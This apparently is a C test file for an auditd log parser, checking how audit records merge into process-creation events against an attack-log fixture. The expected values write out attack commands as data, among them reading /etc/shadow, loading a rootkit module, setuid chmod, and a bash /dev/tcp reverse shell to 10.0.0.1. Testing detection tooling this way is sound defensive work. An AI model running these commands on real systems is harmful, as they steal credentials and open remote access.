    simple_rec(state, "EXECVE", 9000, "argc=1 a0=\"c\"");
    vg_event *e = simple_rec(state, "EOE", 9000, "");
    expect_field(e, "ParentImage", NULL, 0, "evicted");
    syscall_rec(state, 9001, 20001, 14999, "/usr/bin/c");
    simple_rec(state, "EXECVE", 9001, "argc=1 a0=\"c\"");
    e = simple_rec(state, "EOE", 9001, "");
    expect_field(e, "ParentImage", "/usr/bin/p4999", 14, "kept");
}

Test(auditd, chunked_argument_joins)
{
    syscall_rec(state, 700, 70, 1, "/usr/bin/echo");
    simple_rec(state, "EXECVE", 700, "argc=3 a0=\"echo\" a1_len=6 a1[0]=616263");
    simple_rec(state, "EXECVE", 700, "a1[1]=\"def\" a2=\"z\"");
    vg_event *e = simple_rec(state, "EOE", 700, "");
    expect_field(e, "CommandLine", "echo abcdef z", 13, "chunks");
}

Test(auditd, merged_values_survive_arena_reset)
{
    /* parse() resets the arena and frees the previous line: values must be copies */
    syscall_rec(state, 800, 80, 1, "/usr/bin/bash");
    simple_rec(state, "EXECVE", 800, "argc=2 a0=\"bash\" a1=\"-x\"");
    simple_rec(state, "CWD", 800, "cwd=2F746D702F6120622F");
    vg_event *e = simple_rec(state, "EOE", 800, "");
    expect_field(e, "CurrentDirectory", "/tmp/a b/", 9, "copy");
    expect_field(e, "CommandLine", "bash -x", 7, "copy");
}

/* ---- the fixture, end to end ---- */

static char *fixture_path(const char *name)
{
    const char *root = getenv("VG_SOURCE_ROOT");
    char *p = NULL;
    if (root)
        cr_assert(asprintf(&p, "%s/tests/fixtures/audit/%s", root, name) > 0);
    else /* next to this source file */
        cr_assert(asprintf(&p, "%.*s/../fixtures/audit/%s",
                           (int)(strrchr(__FILE__, '/') ? strrchr(__FILE__, '/') - __FILE__ : 1),
                           strrchr(__FILE__, '/') ? __FILE__ : ".", name) > 0);
    return p;
}

typedef struct {
    const char *image, *cmdline, *cwd, *user, *logon, *parent_image, *parent_cmdline;
} merged_case;

/* The merged events of attack.log; user and logon as the ENRICHED file names them. */
static const merged_case attack_expected[] = {
    {"/usr/bin/bash", "-bash", "/root", "root", "1000", NULL, NULL},
    {"/usr/sbin/useradd", "useradd -m bob", "/root", "root", "1000", "/usr/bin/bash", "-bash"},
    {"/usr/bin/cat", "cat /etc/shadow", "/root", "root", "1000", "/usr/bin/bash", "-bash"},
    {"/usr/bin/chmod", "chmod +s /tmp/x", "/tmp", "root", "1000", "/usr/bin/bash", "-bash"},
    {"/usr/bin/kmod", "insmod /tmp/rk.ko", "/tmp", "root", "1000", "/usr/bin/bash", "-bash"},
    {"/usr/bin/kmod", "modprobe nf_tables", "/root", "root", "1000", "/usr/bin/bash", "-bash"},
    {"/usr/bin/bash", "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "/tmp", "root", "1000",
     "/usr/bin/bash", "-bash"},
    {"/usr/bin/bash", "bash -i", "/tmp", "root", "1000", "/usr/bin/bash", "-bash"},
    {"/usr/bin/whoami", "whoami", "/tmp", "root", "1000", "/usr/bin/bash", "bash -i"},
    {"/usr/sbin/apache2", "/usr/sbin/apache2 -k start", "/", "root", "4294967295", NULL, NULL},
    /* the worker 801 never exec'd: known from its audited connect() and PROCTITLE */
    {"/usr/bin/whoami", "whoami", "/var/www/html", "www-data", "4294967295", "/usr/sbin/apache2",
     "/usr/sbin/apache2 -k start"},
};

static bool field_is(const vg_event *e, const char *name, const char *v)
{
    const vg_str *f = vg_event_get(e, (vg_str){name, strlen(name)});
    return f && vg_str_eqc(*f, v);
}

static void expect_opt(const vg_event *e, const char *name, const char *v, size_t i)
{
    char what[32];
    snprintf(what, sizeof what, "merged #%zu", i);
    expect_field(e, name, v, v ? strlen(v) : 0, what);
}

/* attack.log (ENRICHED) and attack-raw.log (the same, raw): same events but User. */
static void run_attack_log(const char *file, bool enriched)
{
    char *path = fixture_path(file);
    FILE *f = fopen(path, "r");
    if (!f) {
        free(path);
        cr_skip("fixture absent");
    }
    char *line = NULL;
    size_t cap = 0, nmerged = 0, nrec = 0;
    ssize_t n;
    bool saw_add_user = false, saw_service_stop = false, saw_finit = false, saw_revshell = false;
    while ((n = getline(&line, &cap, f)) > 0) {
        vg_event *e = parse_n(state, line, (size_t)n);
        cr_expect((e->flags & (VG_EV_PARSE_FAILED | VG_EV_FIELDS_DROPPED)) == 0, "%s", line);
        if (is_proc_creation(e)) {
            cr_assert(nmerged < sizeof attack_expected / sizeof attack_expected[0]);
            const merged_case *m = &attack_expected[nmerged];
            const char *user = m->user;
            if (!enriched)
                user = strcmp(user, "root") == 0 ? "0" : "33";
            expect_opt(e, "Image", m->image, nmerged);
            expect_opt(e, "CommandLine", m->cmdline, nmerged);
            expect_opt(e, "CurrentDirectory", m->cwd, nmerged);
            expect_opt(e, "User", user, nmerged);
            expect_opt(e, "LogonId", m->logon, nmerged);
            expect_opt(e, "ParentImage", m->parent_image, nmerged);
            expect_opt(e, "ParentCommandLine", m->parent_cmdline, nmerged);
            expect_opt(e, "SYSCALL", "execve", nmerged);
            nmerged++;
            continue;
        }
        nrec++;
        cr_assert(vg_event_get(e, VG_STR("type")), "%s", line);
        if (field_is(e, "type", "ADD_USER")) {
            saw_add_user = true;
            expect_field(e, "acct", "bob", 3, "ADD_USER");
        } else if (field_is(e, "type", "SERVICE_STOP")) {
            saw_service_stop = true;
            expect_field(e, "unit", "ufw", 3, "SERVICE_STOP");
        } else if (field_is(e, "type", "SYSCALL") && field_is(e, "SYSCALL", "finit_module")) {
            saw_finit = true;
            expect_field(e, "comm", "insmod", 6, "finit_module");
            expect_field(e, "exe", "/usr/bin/kmod", 13, "finit_module");
        } else if (field_is(e, "type", "EXECVE") && field_is(e, "a1", "-c")) {
            saw_revshell = true;
            expect_field(e, "a2", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 38, "revshell");
        } else if (field_is(e, "type", "USER_CMD")) {
            expect_field(e, "cmd", "/bin/bash -i", 12, "sudo");
        } else if (field_is(e, "type", "SYSCALL") && field_is(e, "pid", "802")) {
            expect_field(e, "SYSCALL", "execve", 6, "web rce");
            expect_field(e, "euid", "33", 2, "web rce");
        }
        if (!enriched)
            expect_field(e, "UID", NULL, 0, "raw: no UID=");
    }
    free(line);
    fclose(f);
    free(path);
    cr_expect(nmerged == sizeof attack_expected / sizeof attack_expected[0], "merged %zu", nmerged);
    cr_expect(nrec > 60);
    cr_expect(saw_add_user && saw_service_stop && saw_finit && saw_revshell);
    cr_expect(counter(state, "groups_dropped") == 0);
    cr_expect(counter(state, "groups_pending") == 0);
    cr_expect(counter(state, "groups_plain") == 3);
    cr_expect(counter(state, "records_orphan") == 0);
}

Test(auditd, fixture_attack_log_enriched)
{
    run_attack_log("attack.log", true);
}

Test(auditd, fixture_attack_log_raw)
{
    run_attack_log("attack-raw.log", false);
}

Test(auditd, registry)
{
    cr_expect(vg_parser_find("auditd") == &vg_parser_auditd);
    cr_expect(vg_parser_auditd.state_destroy != NULL);
    vg_parser_auditd.state_destroy(NULL);
    cr_expect(vg_parser_auditd.state_counters(NULL, NULL, 0) == 0);
}
